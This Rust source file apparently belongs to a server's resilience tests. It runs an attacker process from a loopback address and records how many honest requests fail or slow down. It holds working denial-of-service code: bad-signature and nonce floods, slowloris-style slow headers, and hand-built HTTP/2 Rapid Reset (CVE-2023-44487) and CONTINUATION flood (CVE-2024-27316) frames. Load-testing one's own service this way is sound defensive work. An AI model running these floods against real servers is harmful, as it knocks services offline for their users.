//! Whoever attacks: a process of its own, from an address of its own.

use super::honest::Honest;
use super::{asking, honest};
use crate::player::{Player, until_told_to_end};
use crate::world::{SITE, sign_at};
use avouch_gather::clock::{Clock as _, SystemClock};
use std::fmt::Write as _;
use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;
use testkit::raw::Raw;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, sleep, sleep_until};

/// Where attacks come from.
const SOURCE: &str = "127.0.0.66";

/// Connections an attack has at once, but for that which consists of connections.
const CONNECTIONS: usize = 8;

/// How long an attack is under way when honest requests come.
const HEAD_START: Duration = Duration::from_millis(300);

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Requests whose signatures do not hold.
    BadSignatures,
    /// Requests signed by a valid key, each with a new nonce.
    Nonces,
    /// Claims of domains that nobody answers for.
    UnknownDomains,
    /// Connections whose heads never end.
    SlowHeads,
    /// HTTP/2 streams that are opened and reset.
    Resets,
    /// HTTP/2 header blocks that never end.
    Continuations,
}

impl Attack {
    pub(crate) const ALL: [Self; 6] = [
        Self::BadSignatures,
        Self::Nonces,
        Self::UnknownDomains,
        Self::SlowHeads,
        Self::Resets,
        Self::Continuations,
    ];

    /// What the figures are called: of those who did not get through, and of those who waited.
    pub(crate) const fn names(self) -> [&'static str; 2] {
        match self {
            Self::BadSignatures => [
                "under bad signatures: honest requests not answered / all of them",
                "under bad signatures: slowest hundredth of honest requests / the same in quiet times",
            ],
            Self::Nonces => [
                "under a flood of nonces by a valid key: honest requests not answered / all of them",
                "under a flood of nonces by a valid key: slowest hundredth of honest requests / the same in quiet times",
            ],
            Self::UnknownDomains => [
                "under unknown domains: honest requests not answered / all of them",
                "under unknown domains: slowest hundredth of honest requests / the same in quiet times",
            ],
            Self::SlowHeads => [
                "under slow heads: honest requests not answered / all of them",
                "under slow heads: slowest hundredth of honest requests / the same in quiet times",
            ],
            Self::Resets => [
                "under HTTP/2 resets: honest requests not answered / all of them",
                "under HTTP/2 resets: slowest hundredth of honest requests / the same in quiet times",
            ],
            Self::Continuations => [
                "under HTTP/2 continuations: honest requests not answered / all of them",
                "under HTTP/2 continuations: slowest hundredth of honest requests / the same in quiet times",
            ],
        }
    }

    /// Has it begin, so many times a second, until what is given is dropped.
    pub(crate) fn begin(self, honest: &Honest, rate: f64, folder: &Path) -> Player {
        let file = folder.join("attack");
        std::fs::write(&file, self.requests(honest, (rate * 3.0) as usize)).expect("a file");
        let words =
            [format!("{self:?}"), honest.address.to_string(), rate.to_string(), file.display().to_string()];
        Player::start("attacker", &words.each_ref().map(String::as_str))
    }

    /// Requests for it, one after the other.
    fn requests(self, honest: &Honest, count: usize) -> Vec<u8> {
        let signer = honest.signers.first().expect("an agent");
        let now = SystemClock::new().now();
        let good = sign_at(signer, now);
        let numbered = |number: usize| match self {
            Self::BadSignatures => {
                // The nonce is another, so the signature is not that of this request.
                with(&good, "nonce", &format!("a-nonce-of-a-flood-{number:06}"))
            }
            Self::Nonces => sign_at(signer, now),
            Self::UnknownDomains => with(&good, "dom", &format!("flood-{number}.dark")),
            Self::SlowHeads | Self::Resets | Self::Continuations => String::new(),
        };
        let count = if numbered(0).is_empty() { 0 } else { count };
        (0..count).flat_map(|number| honest::request(&numbered(number))).collect()
    }
}

/// A header with another value under one of its names.
fn with(header: &str, name: &str, value: &str) -> String {
    let mut changed = String::new();
    for part in header.split("; ") {
        let separator = if changed.is_empty() { "" } else { "; " };
        let part = match part.split_once('=') {
            Some((own, _)) if own == name => format!("{name}=\"{value}\""),
            _ => part.to_owned(),
        };
        write!(changed, "{separator}{part}").expect("a string takes all");
    }
    changed
}

/// Attacks, until told to end.
pub(crate) async fn play(words: &[&str]) {
    let [attack, address, rate, file] = words else { unreachable!("an attack, an address, a rate, a file") };
    let address: SocketAddr = address.parse().expect("an address");
    let pause = Duration::from_secs_f64(1.0 / rate.parse::<f64>().expect("a rate"));
    let text = Arc::new(std::fs::read(file).expect("requests"));
    match *attack {
        "SlowHeads" => drop(tokio::spawn(slow_heads(address, pause))),
        "Resets" => each(|_| tokio::spawn(frames(address, pause * CONNECTIONS as u32, resets))),
        "Continuations" => each(|_| tokio::spawn(frames(address, pause * CONNECTIONS as u32, continuations))),
        _ => each(|at| tokio::spawn(requests(address, Arc::clone(&text), at, pause))),
    }
    sleep(HEAD_START).await;
    until_told_to_end(address).await;
}

fn each<T>(begin: impl Fn(usize) -> T) {
    (0..CONNECTIONS).for_each(|at| drop(begin(at)));
}

/// Sends every eighth of the requests, each when it is due.
async fn requests(address: SocketAddr, text: Arc<Vec<u8>>, at: usize, pause: Duration) {
    let text = String::from_utf8_lossy(&text);
    let mine = text.split_inclusive("\r\n\r\n").enumerate().skip(at).step_by(CONNECTIONS);
    let begin = Instant::now();
    let mut open = None;
    for (number, request) in mine {
        sleep_until(begin + pause * number as u32).await;
        let mut raw = match open.take() {
            Some(raw) => raw,
            None => connect(address).await,
        };
        if raw.send(request).await.is_ok() && raw.answer().await.is_ok_and(|answer| answer.is_some()) {
            open = Some(raw);
        }
    }
}

async fn connect(address: SocketAddr) -> Raw {
    Raw::connect_from(SOURCE.parse().expect("an address"), address).await.expect("it listens")
}

/// Opens connections, and sends an octet of a head on each now and then.
async fn slow_heads(address: SocketAddr, pause: Duration) {
    let begin = Instant::now();
    for number in 0.. {
        sleep_until(begin + pause * number).await;
        tokio::spawn(async move {
            let mut raw = connect(address).await;
            for octet in asking("x: ").iter().cycle() {
                if raw.send([*octet]).await.is_err() {
                    return;
                }
                sleep(Duration::from_millis(200)).await;
            }
        });
    }
}

const SETTINGS: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Sends frames over a connection, and over another when that is ended.
async fn frames(address: SocketAddr, pause: Duration, next: fn(u32) -> Vec<u8>) {
    let (begin, mut sent) = (Instant::now(), 0);
    loop {
        let (stream, _) = connect(address).await.into_parts();
        let (mut read, mut write) = stream.into_split();
        let reading = tokio::spawn(async move {
            let mut told = [0; 4096];
            while read.read(&mut told).await.is_ok_and(|octets| octets > 0) {}
        });
        if write.write_all(SETTINGS).await.is_err() {
            continue;
        }
        for number in 0.. {
            sleep_until(begin + pause * sent).await;
            sent += 1;
            if reading.is_finished() || write.write_all(&next(number)).await.is_err() {
                break;
            }
        }
    }
}

/// A stream that is opened and reset (CVE-2023-44487).
fn resets(number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    [frame(1, 5, stream, &block()), frame(3, 0, stream, &8_u32.to_be_bytes())].concat()
}

/// A header block, and after that more and more of it (CVE-2024-27316 and its like).
fn continuations(number: u32) -> Vec<u8> {
    match number {
        0 => frame(1, 1, 1, &block()),
        _ => frame(9, 0, 1, &[&[0, 1, b'x', 127, 0x81, 0x7d][..], &[b'y'; 16_128]].concat()),
    }
}

/// A frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request's fields as literals (RFC 7541 section 6.2.2).
fn block() -> Vec<u8> {
    let fields = [(":method", "GET"), (":scheme", "http"), (":authority", SITE), (":path", "/")];
    let literal = |text: &str| [&[text.len() as u8][..], text.as_bytes()].concat();
    fields.iter().flat_map(|(name, value)| [vec![0], literal(name), literal(value)].concat()).collect()
}
